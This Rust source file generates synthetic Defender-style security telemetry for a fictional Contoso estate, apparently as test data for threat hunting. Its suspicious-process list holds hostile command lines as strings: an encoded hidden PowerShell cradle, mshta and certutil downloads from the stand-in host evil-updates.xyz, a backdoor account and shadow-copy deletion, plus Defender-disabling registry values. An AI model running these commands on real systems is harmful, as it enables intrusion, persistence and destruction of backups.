//! One generated event of each kind, written column by column into its table's rows.
//!
//! Every event refers to the estate (a device, a user, a file of the estate…) so the tables
//! join the way real ones do: a process's `SHA1` has a file profile, a network event's
//! `InitiatingProcessFileName` ran on the same device, alerts name devices and files that
//! have events.
//!
//! Over 800 lines on purpose: it is one flat method per event kind (process, network, file,
//! registry, image load, logon, device, email, identity logon, cloud app, alert), mostly the
//! literal value lists each column draws from; splitting them would only scatter the data.

use std::collections::HashMap;

use super::estate::{Estate, EstateDevice, EstateUser, Rng};
use crate::columns::{Mismatch, RowBatch, Value};

use Value::{Bool as B, Int as I, Json as J, Str as S, Time as T};

/// The generator of one day's events: the estate with the strings events repeat precomputed,
/// the day's random numbers, and the time of the event being written.
pub(super) struct Gen<'a> {
    pub(super) e: &'a Estate,
    pub(super) r: Rng,
    /// The current event's time (nanoseconds).
    pub(super) t: i64,
    /// The next `ReportId` of device tables.
    pub(super) report: i64,
    /// File index by name.
    files: HashMap<&'a str, usize>,
    /// `folder\name` of each file, and its lower-case form.
    paths: Vec<(String, String)>,
    /// Each user's domain, lower-cased.
    domains: Vec<String>,
    /// Each user's display name (`alice smith`).
    display: Vec<String>,
}

const MINUTE: i64 = 60_000_000_000;
const HOUR: i64 = 60 * MINUTE;

impl<'a> Gen<'a> {
    pub(super) fn new(e: &'a Estate, r: Rng, report: i64) -> Gen<'a> {
        Gen {
            e,
            r,
            t: 0,
            report,
            files: e
                .files
                .iter()
                .enumerate()
                .map(|(i, f)| (f.name.as_str(), i))
                .collect(),
            paths: e
                .files
                .iter()
                .map(|f| {
                    let p = format!("{}\\{}", f.folder, f.name);
                    let lower = p.to_lowercase();
                    (p, lower)
                })
                .collect(),
            domains: e.users.iter().map(|u| u.domain.to_lowercase()).collect(),
            display: e
                .users
                .iter()
                .map(|u| u.account_name.replace('.', " "))
                .collect(),
        }
    }

    /// The index of the estate's file `name` (the first file when there is none).
    fn file(&self, name: &str) -> usize {
        self.files.get(name).copied().unwrap_or(0)
    }

    fn dev(&mut self) -> &'a EstateDevice {
        self.r.pick(&self.e.devices)
    }

    fn user(&mut self) -> usize {
        self.r.below(self.e.users.len() as u64) as usize
    }

    fn rid(&mut self) -> i64 {
        self.report += 1;
        self.report
    }

    /// `Timestamp`, `DeviceId`, `DeviceName`, `ReportId`.
    fn device_cols(&mut self, w: &mut RowBatch, d: &EstateDevice) {
        w.set("Timestamp", T(self.t));
        w.set("DeviceId", S(&d.device_id));
        w.set("DeviceName", S(&d.name));
        let rid = self.rid();
        w.set("ReportId", I(rid));
    }

    /// The `InitiatingProcess*` columns for the estate's binary `name`.
    fn initiating(&mut self, w: &mut RowBatch, name: &str, cmd: &str, parent: &str, user: usize) {
        let fi = self.file(name);
        let f = &self.e.files[fi];
        let u: &EstateUser = &self.e.users[user];
        let pid = 1000 + self.r.below(30_000) as i64;
        w.set("InitiatingProcessFileName", S(&f.name));
        w.set("InitiatingProcessFolderPath", S(&self.paths[fi].1));
        w.set("InitiatingProcessSHA1", S(&f.sha1));
        w.set("InitiatingProcessSHA256", S(&f.sha256));
        w.set("InitiatingProcessMD5", S(&f.md5));
        w.set("InitiatingProcessCommandLine", S(cmd));
        w.set("InitiatingProcessId", I(pid));
        w.set("InitiatingProcessCreationTime", T(self.t - MINUTE));
        w.set("InitiatingProcessParentFileName", S(parent));
        w.set("InitiatingProcessParentId", I(pid - 7));
        w.set("InitiatingProcessParentCreationTime", T(self.t - HOUR));
        w.set("InitiatingProcessAccountDomain", S(&self.domains[user]));
        w.set("InitiatingProcessAccountName", S(&u.account_name));
        w.set("InitiatingProcessAccountSid", S(&u.sid));
        w.set("InitiatingProcessAccountUpn", S(&u.upn));
        w.set("InitiatingProcessAccountObjectId", S(&u.object_id));
        let integrity = if name == "services.exe" {
            "System"
        } else {
            "Medium"
        };
        w.set("InitiatingProcessIntegrityLevel", S(integrity));
        w.set(
            "InitiatingProcessTokenElevation",
            S("TokenElevationTypeDefault"),
        );
        let size = 50_000 + self.r.below(5_000_000) as i64;
        w.set("InitiatingProcessFileSize", I(size));
        w.set(
            "InitiatingProcessVersionInfoCompanyName",
            S("Microsoft Corporation"),
        );
        w.set("InitiatingProcessVersionInfoOriginalFileName", S(&f.name));
    }

    /// The account columns of user `u`.
    fn account(&self, w: &mut RowBatch, u: usize) {
        let user = &self.e.users[u];
        w.set("AccountDomain", S(&self.domains[u]));
        w.set("AccountName", S(&user.account_name));
        w.set("AccountSid", S(&user.sid));
    }

    /// A `DeviceProcessEvents` row.
    pub(super) fn process(&mut self, w: &mut RowBatch) -> Result<(), Mismatch> {
        // (parent, child, command line, initiating command line)
        const CHAINS: &[(&str, &str, &str, &str)] = &[
            ("explorer.exe", "cmd.exe", "cmd.exe /c whoami /all", "C:\\Windows\\Explorer.EXE"),
            ("cmd.exe", "whoami.exe", "whoami /all", "cmd.exe /c whoami /all"),
            ("services.exe", "svchost.exe", "svchost.exe -k netsvcs -p -s Schedule", "C:\\Windows\\system32\\services.exe"),
            ("explorer.exe", "chrome.exe", "\"chrome.exe\" --type=renderer", "C:\\Windows\\Explorer.EXE"),
            ("explorer.exe", "winword.exe", "\"WINWORD.EXE\" /n \"C:\\Users\\Public\\Documents\\report.docx\"", "C:\\Windows\\Explorer.EXE"),
            ("explorer.exe", "teams.exe", "Teams.exe --processStart", "C:\\Windows\\Explorer.EXE"),
            ("powershell.exe", "conhost.exe", "conhost.exe 0xffffffff -ForceV1", "powershell.exe -NoProfile"),
            ("svchost.exe", "schtasks.exe", "schtasks.exe /query /fo LIST", "svchost.exe -k netsvcs"),
            ("cmd.exe", "reg.exe", "reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "cmd.exe /c reg query"),
            ("explorer.exe", "powershell.exe", "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1", "C:\\Windows\\Explorer.EXE"),
        ];
        const SUSPICIOUS: &[(&str, &str, &str, &str)] = &[
            ("winword.exe", "powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "\"WINWORD.EXE\" /n invoice_2291.docm"),
            ("explorer.exe", "mshta.exe", "mshta.exe http://evil-updates.xyz/payload.hta", "C:\\Windows\\Explorer.EXE"),
            ("cmd.exe", "certutil.exe", "certutil.exe -urlcache -split -f http://evil-updates.xyz/update.dll C:\\ProgramData\\update.dll", "cmd.exe /c certutil"),
            ("cmd.exe", "net.exe", "net user backdoor P@ssw0rd! /add", "cmd.exe /c net user backdoor /add"),
            ("cmd.exe", "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "cmd.exe /c vssadmin delete shadows /all /quiet"),
            ("excel.exe", "rundll32.exe", "rundll32.exe C:\\ProgramData\\update.dll,DllRegisterServer", "\"EXCEL.EXE\" report.xlsx"),
            ("cmd.exe", "wmic.exe", "wmic shadowcopy delete", "cmd.exe /c wmic shadowcopy delete"),
        ];
        let (parent, child, cmd, icmd) = if self.r.chance(0.04) {
            *self.r.pick(SUSPICIOUS)
        } else {
            *self.r.pick(CHAINS)
        };
        let d = self.dev();
        let u = self.user();
        let fi = self.file(child);
        let f = &self.e.files[fi];
        let user = &self.e.users[u];
        w.set("ActionType", S("ProcessCreated"));
        w.set("FileName", S(&f.name));
        w.set("FolderPath", S(&self.paths[fi].0));
        w.set("SHA1", S(&f.sha1));
        w.set("SHA256", S(&f.sha256));
        w.set("MD5", S(&f.md5));
        w.set("FileSize", I(20_000 + self.r.below(3_000_000) as i64));
        w.set("ProcessId", I(2000 + self.r.below(60_000) as i64));
        w.set("ProcessCommandLine", S(cmd));
        w.set("ProcessIntegrityLevel", S("Medium"));
        w.set("ProcessTokenElevation", S("TokenElevationTypeDefault"));
        w.set("ProcessCreationTime", T(self.t));
        self.account(w, u);
        w.set("AccountUpn", S(&user.upn));
        w.set("AccountObjectId", S(&user.object_id));
        w.set("LogonId", I(100_000 + self.r.below(900_000) as i64));
        w.set("ProcessVersionInfoCompanyName", S("Microsoft Corporation"));
        w.set("ProcessVersionInfoOriginalFileName", S(&f.name));
        w.set(
            "ProcessVersionInfoFileDescription",
            S(f.name.trim_end_matches(".exe")),
        );
        w.set("InitiatingProcessSignerType", S("OsVendor"));
        w.set("InitiatingProcessSignatureStatus", S("Valid"));
        w.set("AdditionalFields", S("{}"));
        w.set("IsInitiatingProcessRemoteSession", B(false));
        w.set("IsProcessRemoteSession", B(false));
        self.device_cols(w, d);
        let grandparent = if parent == "explorer.exe" {
            "userinit.exe"
        } else {
            "explorer.exe"
        };
        self.initiating(w, parent, icmd, grandparent, u);
        w.end_row()
    }

    /// A `DeviceNetworkEvents` row.
    pub(super) fn network(&mut self, w: &mut RowBatch) -> Result<(), Mismatch> {
        let d = self.dev();
        let u = self.user();
        let (port, proc_) = *self.r.pick(&[
            (443, "chrome.exe"),
            (443, "msedge.exe"),
            (443, "teams.exe"),
            (80, "chrome.exe"),
            (53, "svchost.exe"),
            (445, "svchost.exe"),
            (3389, "svchost.exe"),
            (443, "powershell.exe"),
            (8080, "powershell.exe"),
            (4444, "rundll32.exe"),
        ]);
        let url = self.r.pick(&self.e.urls);
        let host = url
            .trim_start_matches("https://")
            .split('/')
            .next()
            .unwrap_or("");
        let ip = self.r.pick(&self.e.remote_ips);
        let action = *self.r.pick(&[
            "ConnectionSuccess",
            "ConnectionSuccess",
            "ConnectionSuccess",
            "ConnectionFailed",
            "InboundConnectionAccepted",
        ]);
        w.set("ActionType", S(action));
        w.set("RemoteIP", S(ip));
        w.set("RemotePort", I(port));
        let web = port == 443 || port == 80 || port == 8080;
        w.set("RemoteUrl", S(if web { host } else { "" }));
        w.set("LocalIP", S(&d.ip));
        w.set("LocalPort", I(49152 + self.r.below(16_000) as i64));
        w.set("Protocol", S(if port == 53 { "Udp" } else { "Tcp" }));
        w.set("LocalIPType", S("Private"));
        w.set("RemoteIPType", S("Public"));
        w.set("IsInitiatingProcessRemoteSession", B(false));
        self.device_cols(w, d);
        self.initiating(w, proc_, proc_, "explorer.exe", u);
        w.end_row()
    }

    /// A `DeviceFileEvents` row.
    pub(super) fn file_event(&mut self, w: &mut RowBatch) -> Result<(), Mismatch> {
        let d = self.dev();
        let u = self.user();
        let fi = self.r.below(self.e.files.len() as u64) as usize;
        let f = &self.e.files[fi];
        let action = *self.r.pick(&[
            "FileCreated",
            "FileCreated",
            "FileModified",
            "FileRenamed",
            "FileDeleted",
        ]);
        let origin = if f.folder.contains("Downloads") {
            self.r.pick(&self.e.urls).as_str()
        } else {
            ""
        };
        w.set("ActionType", S(action));
        w.set("FileName", S(&f.name));
        w.set("FolderPath", S(&self.paths[fi].0));
        w.set("SHA1", S(&f.sha1));
        w.set("SHA256", S(&f.sha256));
        w.set("MD5", S(&f.md5));
        w.set("FileSize", I(1_000 + self.r.below(10_000_000) as i64));
        w.set("FileOriginUrl", S(origin));
        w.set("IsAzureInfoProtectionApplied", B(false));
        self.device_cols(w, d);
        let p = *self.r.pick(&[
            "explorer.exe",
            "chrome.exe",
            "outlook.exe",
            "powershell.exe",
            "winword.exe",
        ]);
        self.initiating(w, p, p, "explorer.exe", u);
        w.end_row()
    }

    /// A `DeviceLogonEvents` row.
    pub(super) fn logon(&mut self, w: &mut RowBatch) -> Result<(), Mismatch> {
        let d = self.dev();
        let u = self.user();
        let failed = self.r.chance(0.15);
        let ltype = *self.r.pick(&[
            "Interactive",
            "Network",
            "RemoteInteractive",
            "Unlock",
            "Batch",
            "Service",
        ]);
        w.set(
            "ActionType",
            S(if failed {
                "LogonFailed"
            } else {
                "LogonSuccess"
            }),
        );
        w.set("LogonType", S(ltype));
        self.account(w, u);
        w.set(
            "Protocol",
            S(self.r.pick_str(&["Kerberos", "NTLM", "Negotiate"])),
        );
        w.set(
            "FailureReason",
            S(if failed {
                "InvalidUserNameOrPassword"
            } else {
                ""
            }),
        );
        w.set("IsLocalAdmin", B(self.r.chance(0.2)));
        w.set("LogonId", I(100_000 + self.r.below(900_000) as i64));
        let remote_ip = if ltype == "Network" || ltype == "RemoteInteractive" {
            self.r.pick(&self.e.devices).ip.as_str()
        } else {
            ""
        };
        w.set("RemoteIP", S(remote_ip));
        w.set(
            "RemoteIPType",
            S(if ltype == "Network" { "Private" } else { "" }),
        );
        w.set(
            "RemotePort",
            I(if ltype == "RemoteInteractive" {
                3389
            } else {
                0
            }),
        );
        w.set("IsInitiatingProcessRemoteSession", B(false));
        self.device_cols(w, d);
        self.initiating(
            w,
            "svchost.exe",
            "svchost.exe -k netsvcs",
            "services.exe",
            u,
        );
        w.end_row()
    }

    /// A `DeviceRegistryEvents` row.
    pub(super) fn registry(&mut self, w: &mut RowBatch) -> Result<(), Mismatch> {
        let d = self.dev();
        let u = self.user();
        let (key, name, data) = *self.r.pick(&[
            (
                "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
                "OneDrive",
                "C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe /background",
            ),
            (
                "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                "Updater",
                "rundll32.exe C:\\ProgramData\\update.dll,DllRegisterServer",
            ),
            (
                "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\WinDefend",
                "Start",
                "2",
            ),
            (
                "HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender",
                "DisableAntiSpyware",
                "1",
            ),
        ]);
        w.set(
            "ActionType",
            S(self.r.pick_str(&[
                "RegistryValueSet",
                "RegistryValueSet",
                "RegistryKeyCreated",
                "RegistryValueDeleted",
            ])),
        );
        w.set("RegistryKey", S(key));
        w.set("RegistryValueName", S(name));
        w.set("RegistryValueData", S(data));
        w.set("RegistryValueType", S("String"));
        self.device_cols(w, d);
        let p = *self
            .r
            .pick(&["reg.exe", "powershell.exe", "svchost.exe", "MsMpEng.exe"]);
        self.initiating(w, p, p, "cmd.exe", u);
        w.end_row()
    }

    /// A `DeviceImageLoadEvents` row.
    pub(super) fn image_load(&mut self, w: &mut RowBatch) -> Result<(), Mismatch> {
        let d = self.dev();
        let u = self.user();
        let (dll, folder) = *self.r.pick(&[
            ("kernel32.dll", "C:\\Windows\\System32"),
            ("ntdll.dll", "C:\\Windows\\System32"),
            ("amsi.dll", "C:\\Windows\\System32"),
            (
                "clr.dll",
                "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319",
            ),
            ("System.Management.Automation.dll", "C:\\Windows\\assembly"),
            ("update.dll", "C:\\ProgramData"),
        ]);
        w.set("ActionType", S("ImageLoaded"));
        w.set("FileName", S(dll));
        w.set("FolderPath", S(&format!("{folder}\\{dll}")));
        w.set("SHA1", S(&self.r.hex(40)));
        w.set("SHA256", S(&self.r.hex(64)));
        w.set("MD5", S(&self.r.hex(32)));
        w.set("FileSize", I(100_000 + self.r.below(2_000_000) as i64));
        self.device_cols(w, d);
        let p = *self.r.pick(&[
            "powershell.exe",
            "rundll32.exe",
            "svchost.exe",
            "winword.exe",
        ]);
        self.initiating(w, p, p, "explorer.exe", u);
        w.end_row()
    }

    /// A `DeviceEvents` row.
    pub(super) fn device_event(&mut self, w: &mut RowBatch) -> Result<(), Mismatch> {
        let d = self.dev();
        let u = self.user();
        let action = *self.r.pick(&[
            "AntivirusDetection",
            "PowerShellCommand",
            "DnsQueryResponse",
            "ScheduledTaskCreated",
            "UserAccountCreated",
            "NamedPipeEvent",
            "ProcessCreatedUsingWmiQuery",
            "SmartScreenUrlWarning",
        ]);
        let af = match action {
            "PowerShellCommand" => serde_json::json!({"Command": *self.r.pick(&[
                "Invoke-WebRequest",
                "Get-Process",
                "Invoke-Expression",
                "Set-MpPreference",
            ])}),
            "DnsQueryResponse" => {
                let host = self
                    .r
                    .pick(&self.e.urls)
                    .trim_start_matches("https://")
                    .split('/')
                    .next()
                    .unwrap_or("");
                serde_json::json!({ "DnsQueryString": host })
            }
            "AntivirusDetection" => {
                serde_json::json!({"ThreatName": "Trojan:Win32/Wacatac.B!ml", "WasRemediated": true})
            }
            "ScheduledTaskCreated" => {
                serde_json::json!({"TaskName": "\\Microsoft\\Windows\\Updater", "TaskContent": "rundll32.exe update.dll"})
            }
            _ => serde_json::json!({}),
        };
        w.set("ActionType", S(action));
        self.account(w, u);
        w.set("AdditionalFields", S(&af.to_string()));
        w.set(
            "FileName",
            S(if action == "AntivirusDetection" {
                "payload.ps1"
            } else {
                ""
            }),
        );
        let url = if action == "SmartScreenUrlWarning" {
            self.r.pick(&self.e.urls).as_str()
        } else {
            ""
        };
        w.set("RemoteUrl", S(url));
        self.device_cols(w, d);
        self.initiating(
            w,
            "powershell.exe",
            "powershell.exe -NoProfile",
            "explorer.exe",
            u,
        );
        w.end_row()
    }

    /// An `EmailEvents` row, with its `EmailAttachmentInfo` and `EmailUrlInfo` rows.
    pub(super) fn email(&mut self, out: &mut super::Tables) -> Result<(), Mismatch> {
        let u = self.user();
        let user = &self.e.users[u];
        let mid = self.r.guid();
        let phish = self.r.chance(0.1);
        let sender = if phish {
            "billing@evil-updates.xyz"
        } else {
            *self.r.pick(&[
                "news@github.com",
                "noreply@office.com",
                "hr@contoso.com",
                "partner@fabrikam.com",
            ])
        };
        let domain = sender.split('@').nth(1).unwrap_or("");
        let attachments = if phish || self.r.chance(0.2) { 1 } else { 0 };
        let urls = if phish || self.r.chance(0.5) { 1 } else { 0 };
        let t = self.t;
        if let Some(w) = out.get("EmailEvents") {
            w.set("Timestamp", T(t));
            w.set("NetworkMessageId", S(&mid));
            let internet_id = format!("<{}@{}>", self.r.hex(16), domain);
            w.set("InternetMessageId", S(&internet_id));
            w.set("SenderMailFromAddress", S(sender));
            w.set("SenderFromAddress", S(sender));
            w.set(
                "SenderDisplayName",
                S(sender.split('@').next().unwrap_or("")),
            );
            w.set("SenderMailFromDomain", S(domain));
            w.set("SenderFromDomain", S(domain));
            w.set("SenderIPv4", S(self.r.pick(&self.e.remote_ips).as_str()));
            w.set("RecipientEmailAddress", S(&user.upn));
            w.set("RecipientObjectId", S(&user.object_id));
            let subject = if phish {
                "Invoice overdue - action required"
            } else {
                *self.r.pick(&[
                    "Weekly update",
                    "Meeting notes",
                    "Your build succeeded",
                    "Welcome",
                ])
            };
            w.set("Subject", S(subject));
            w.set(
                "EmailDirection",
                S(if sender.ends_with("contoso.com") {
                    "Intra-org"
                } else {
                    "Inbound"
                }),
            );
            let blocked = phish && self.r.chance(0.5);
            w.set(
                "DeliveryAction",
                S(if blocked { "Blocked" } else { "Delivered" }),
            );
            w.set("DeliveryLocation", S("Inbox/folder"));
            w.set("ThreatTypes", S(if phish { "Phish" } else { "" }));
            w.set(
                "DetectionMethods",
                S(if phish {
                    "{\"Phish\":[\"URL detonation\"]}"
                } else {
                    ""
                }),
            );
            w.set("AttachmentCount", I(attachments));
            w.set("UrlCount", I(urls));
            w.set("EmailLanguage", S("en"));
            w.set(
                "AuthenticationDetails",
                S("{\"SPF\":\"pass\",\"DKIM\":\"pass\",\"DMARC\":\"pass\"}"),
            );
            w.set("ReportId", S(&format!("{mid}-1")));
            w.end_row()?;
        }
        if attachments > 0 {
            let fi = self.file(if phish {
                "invoice_2291.docm"
            } else {
                "report.xlsx"
            });
            let size = 20_000 + self.r.below(500_000) as i64;
            if let Some(w) = out.get("EmailAttachmentInfo") {
                let f = &self.e.files[fi];
                w.set("Timestamp", T(t));
                w.set("NetworkMessageId", S(&mid));
                w.set("SenderFromAddress", S(sender));
                w.set("RecipientEmailAddress", S(&user.upn));
                w.set("RecipientObjectId", S(&user.object_id));
                w.set("FileName", S(&f.name));
                w.set("FileType", S(f.name.rsplit('.').next().unwrap_or("")));
                w.set("SHA256", S(&f.sha256));
                w.set("FileSize", I(size));
                w.set("ThreatTypes", S(if phish { "Malware" } else { "" }));
                w.set("ReportId", S(&format!("{mid}-2")));
                w.end_row()?;
            }
        }
        if urls > 0 {
            let url = if phish {
                "http://evil-updates.xyz/payload.hta"
            } else {
                self.r.pick(&self.e.urls).as_str()
            };
            if let Some(w) = out.get("EmailUrlInfo") {
                let host = url
                    .split("://")
                    .nth(1)
                    .and_then(|h| h.split('/').next())
                    .unwrap_or("");
                w.set("Timestamp", T(t));
                w.set("NetworkMessageId", S(&mid));
                w.set("Url", S(url));
                w.set("UrlDomain", S(host));
                w.set("UrlLocation", S("Body"));
                w.set("ReportId", S(&format!("{mid}-3")));
                w.end_row()?;
            }
        }
        Ok(())
    }

    /// An `IdentityLogonEvents` row.
    pub(super) fn identity_logon(&mut self, w: &mut RowBatch) -> Result<(), Mismatch> {
        let u = self.user();
        let user = &self.e.users[u];
        let d = self.dev();
        let failed = self.r.chance(0.1);
        let rid = self.r.guid();
        w.set("Timestamp", T(self.t));
        w.set(
            "ActionType",
            S(if failed {
                "LogonFailed"
            } else {
                "LogonSuccess"
            }),
        );
        w.set(
            "Application",
            S(self
                .r
                .pick_str(&["Active Directory", "Microsoft 365", "Azure Portal"])),
        );
        w.set(
            "LogonType",
            S(self
                .r
                .pick_str(&["Resource access", "Credentials validation", "Interactive"])),
        );
        w.set(
            "Protocol",
            S(self.r.pick_str(&["Kerberos", "Ntlm", "Ldap"])),
        );
        w.set(
            "FailureReason",
            S(if failed { "WrongPassword" } else { "" }),
        );
        w.set("AccountName", S(&user.account_name));
        w.set("AccountDomain", S("contoso.local"));
        w.set("AccountUpn", S(&user.upn));
        w.set("AccountSid", S(&user.sid));
        w.set("AccountObjectId", S(&user.object_id));
        w.set("AccountDisplayName", S(&self.display[u]));
        w.set("DeviceName", S(&d.name));
        w.set("DeviceType", S("Desktop"));
        w.set("OSPlatform", S(&d.os_platform));
        w.set("IPAddress", S(&d.ip));
        w.set("Port", I(49152 + self.r.below(10_000) as i64));
        w.set(
            "DestinationDeviceName",
            S(super::family::DOMAIN_CONTROLLER.0),
        );
        w.set(
            "DestinationIPAddress",
            S(super::family::DOMAIN_CONTROLLER.1),
        );
        w.set("DestinationPort", I(88));
        w.set("Location", S("US"));
        w.set("ReportId", S(&rid));
        let count = 1 + self.r.below(3);
        w.set(
            "AdditionalFields",
            J(&format!(
                "{{\"Spns\":\"krbtgt/CONTOSO.LOCAL\",\"Count\":{count}}}"
            )),
        );
        w.end_row()
    }

    /// A `CloudAppEvents` row.
    pub(super) fn cloud_app(&mut self, w: &mut RowBatch) -> Result<(), Mismatch> {
        let u = self.user();
        let user = &self.e.users[u];
        let action = *self.r.pick(&[
            "FileDownloaded",
            "FileAccessed",
            "MailItemsAccessed",
            "Add member to role.",
            "New-InboxRule",
            "FileUploaded",
        ]);
        let rid = self.r.guid();
        w.set("Timestamp", T(self.t));
        w.set("ActionType", S(action));
        w.set(
            "Application",
            S(self.r.pick_str(&[
                "Microsoft SharePoint Online",
                "Microsoft Exchange Online",
                "Microsoft Teams",
                "Microsoft OneDrive for Business",
            ])),
        );
        w.set(
            "ApplicationId",
            I(*self.r.pick(&[20892, 20893, 28375, 15600])),
        );
        w.set("AccountObjectId", S(&user.object_id));
        w.set("AccountId", S(&user.object_id));
        w.set("AccountDisplayName", S(&self.display[u]));
        w.set("IsAdminOperation", B(action == "Add member to role."));
        w.set("DeviceType", S("Desktop"));
        w.set("OSPlatform", S("Windows10"));
        w.set("IPAddress", S(self.r.pick(&self.e.remote_ips).as_str()));
        w.set("IsAnonymousProxy", B(false));
        w.set("CountryCode", S(self.r.pick_str(&["US", "US", "DE", "GB"])));
        w.set("City", S("Seattle"));
        w.set("Isp", S("Contoso ISP"));
        w.set("UserAgent", S("Mozilla/5.0"));
        w.set("ActivityType", S("Run"));
        let objects = serde_json::json!([{"Type": "User", "Name": user.upn}]).to_string();
        w.set("ActivityObjects", J(&objects));
        w.set("ObjectName", S(&user.upn));
        w.set("ObjectType", S("User"));
        w.set("ReportId", S(&rid));
        w.set("AccountType", S("Regular"));
        w.set("IsExternalUser", B(false));
        w.set("IsImpersonated", B(false));
        let raw =
            serde_json::json!({"Operation": action, "UserId": user.upn, "ClientIP": "203.0.113.5"})
                .to_string();
        w.set("RawEventData", J(&raw));
        w.end_row()
    }

    /// An `AlertInfo` row and its three `AlertEvidence` rows (device, user, file).
    pub(super) fn alert(&mut self, out: &mut super::Tables) -> Result<(), Mismatch> {
        let d = self.dev();
        let u = self.user();
        let user = &self.e.users[u];
        let id = format!("da{}", self.r.hex(30));
        let (title, cat, sev, tech) = *self.r.pick(&[
            (
                "Suspicious PowerShell command line",
                "Execution",
                "Medium",
                "[\"T1059.001\"]",
            ),
            ("Shadow copy deletion", "Impact", "High", "[\"T1490\"]"),
            (
                "Suspicious file downloaded by certutil",
                "CommandAndControl",
                "Medium",
                "[\"T1105\"]",
            ),
            (
                "New local admin account created",
                "Persistence",
                "High",
                "[\"T1136.001\"]",
            ),
            (
                "Phishing email delivered",
                "InitialAccess",
                "Low",
                "[\"T1566.001\"]",
            ),
        ]);
        let t = self.t;
        if let Some(w) = out.get("AlertInfo") {
            w.set("Timestamp", T(t));
            w.set("AlertId", S(&id));
            w.set("Title", S(title));
            w.set("Category", S(cat));
            w.set("Severity", S(sev));
            w.set("ServiceSource", S("Microsoft Defender for Endpoint"));
            w.set("DetectionSource", S("EDR"));
            w.set("AttackTechniques", S(tech));
            w.end_row()?;
        }
        let fi = self.r.below(self.e.files.len() as u64) as usize;
        let f = &self.e.files[fi];
        let categories = format!("[\"{cat}\"]");
        // The entity as the alert's evidence JSON describes it (the shape of Defender's
        // `AdditionalFields`, which queries unpack with `bag_unpack`).
        let host =
            serde_json::json!({"HostName": d.name, "MachineId": d.device_id, "Type": "host"});
        let details = [
            host.to_string(),
            serde_json::json!({
                "Type": "account", "Name": user.account_name, "Sid": user.sid,
                "AadUserId": user.object_id,
            })
            .to_string(),
            serde_json::json!({
                "Type": "file", "Name": f.name, "Directory": f.folder, "Host": host,
                "SHA1": f.sha1, "SHA256": f.sha256,
            })
            .to_string(),
        ];
        if let Some(w) = out.get("AlertEvidence") {
            for ((etype, role), details) in [
                ("Machine", "Impacted"),
                ("User", "Impacted"),
                ("File", "Related"),
            ]
            .into_iter()
            .zip(&details)
            {
                let (is_user, is_file) = (etype == "User", etype == "File");
                let pick = |yes: bool, v: &'a str| if yes { v } else { "" };
                w.set("Timestamp", T(t));
                w.set("AlertId", S(&id));
                w.set("Title", S(title));
                w.set("Categories", S(&categories));
                w.set("AttackTechniques", S(tech));
                w.set("ServiceSource", S("Microsoft Defender for Endpoint"));
                w.set("DetectionSource", S("EDR"));
                w.set("EntityType", S(etype));
                w.set("EvidenceRole", S(role));
                w.set("DeviceId", S(&d.device_id));
                w.set("DeviceName", S(&d.name));
                w.set("Severity", S(sev));
                w.set("AccountName", S(pick(is_user, &user.account_name)));
                w.set("AccountSid", S(pick(is_user, &user.sid)));
                w.set("AccountObjectId", S(pick(is_user, &user.object_id)));
                w.set("FileName", S(pick(is_file, &f.name)));
                w.set("SHA1", S(pick(is_file, &f.sha1)));
                w.set("SHA256", S(pick(is_file, &f.sha256)));
                w.set("FolderPath", S(pick(is_file, &f.folder)));
                w.set("AdditionalFields", S(details));
                w.end_row()?;
            }
        }
        Ok(())
    }

    /// The daily `DeviceInfo` and `DeviceNetworkInfo` snapshots of device `d`.
    pub(super) fn device_info(
        &mut self,
        d: &EstateDevice,
        out: &mut super::Tables,
    ) -> Result<(), Mismatch> {
        let u = self.user();
        let user = &self.e.users[u];
        let rid = self.rid();
        let t = self.t;
        if let Some(w) = out.get("DeviceInfo") {
            w.set("Timestamp", T(t));
            w.set("DeviceId", S(&d.device_id));
            w.set("DeviceName", S(&d.name));
            w.set("ClientVersion", S("10.8210.22621.1016"));
            w.set("PublicIP", S("203.0.113.10"));
            w.set("OSArchitecture", S("64-bit"));
            w.set("OSPlatform", S(&d.os_platform));
            w.set("OSBuild", I(22621));
            w.set("IsAzureADJoined", B(true));
            w.set("JoinType", S("Hybrid Azure AD Join"));
            let logged_on = format!(
                "[{{\"UserName\":\"{}\",\"DomainName\":\"CONTOSO\",\"Sid\":\"{}\"}}]",
                user.account_name, user.sid
            );
            w.set("LoggedOnUsers", S(&logged_on));
            w.set("OSVersion", S("10.0"));
            w.set("MachineGroup", S("Default"));
            w.set("ReportId", I(rid));
            w.set("OnboardingStatus", S("Onboarded"));
            w.set("DeviceCategory", S("Endpoint"));
            w.set(
                "DeviceType",
                S(if d.name.starts_with("srv") {
                    "Server"
                } else {
                    "Workstation"
                }),
            );
            w.set("SensorHealthState", S("Active"));
            w.set("ExposureLevel", S("Medium"));
            w.set("AssetValue", S("Normal"));
            w.set("IsInternetFacing", B(false));
            w.set("IsExcluded", B(false));
            w.end_row()?;
        }
        let rid = self.rid();
        let mac = format!("00-15-5D-{}", self.r.hex(6).to_uppercase());
        if let Some(w) = out.get("DeviceNetworkInfo") {
            w.set("Timestamp", T(t));
            w.set("DeviceId", S(&d.device_id));
            w.set("DeviceName", S(&d.name));
            w.set("NetworkAdapterName", S("Ethernet"));
            w.set("MacAddress", S(&mac));
            w.set("NetworkAdapterType", S("Ethernet"));
            w.set("NetworkAdapterStatus", S("Up"));
            let ips = format!(
                "[{{\"IPAddress\":\"{}\",\"SubnetPrefix\":24,\"AddressType\":\"Private\"}}]",
                d.ip
            );
            w.set("IPAddresses", S(&ips));
            w.set("DefaultGateways", S("[\"10.0.1.1\"]"));
            w.set("DnsAddresses", S("[\"10.0.0.2\"]"));
            w.set(
                "ConnectedNetworks",
                S("[{\"Name\":\"contoso.local\",\"Category\":\"Domain\"}]"),
            );
            w.set("ReportId", I(rid));
            w.end_row()?;
        }
        Ok(())
    }
}
